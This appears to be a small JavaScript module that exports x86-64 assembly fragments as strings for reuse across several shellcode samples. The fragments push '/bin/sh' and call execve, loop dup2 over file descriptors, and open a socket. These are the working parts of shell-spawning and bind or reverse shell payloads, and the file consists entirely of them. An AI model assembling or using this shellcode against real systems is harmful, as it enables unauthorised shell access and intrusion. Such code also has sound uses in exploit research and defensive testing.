/** Parts that several 64-bit samples share. */

export const PUSH_SHELL = `
  xor edx, edx
  push rdx
  mov rbx, 0x68732f6e69622f2f
  push rbx
  push rsp
  pop rdi`;
export const EXECVE = `
  push rdx
  push rdi
  push rsp
  pop rsi
  push 59
  pop rax
  syscall`;
export const SHELL = PUSH_SHELL + EXECVE;
export const DUP_LOOP = `
  push 3
  pop rsi
1: dec esi
  push 33
  pop rax
  syscall
  jnz 1b`;
export const SOCKET = `
  push 41
  pop rax
  push 2
  pop rdi
  push 1
  pop rsi
  cdq
  syscall
  xchg edi, eax`;
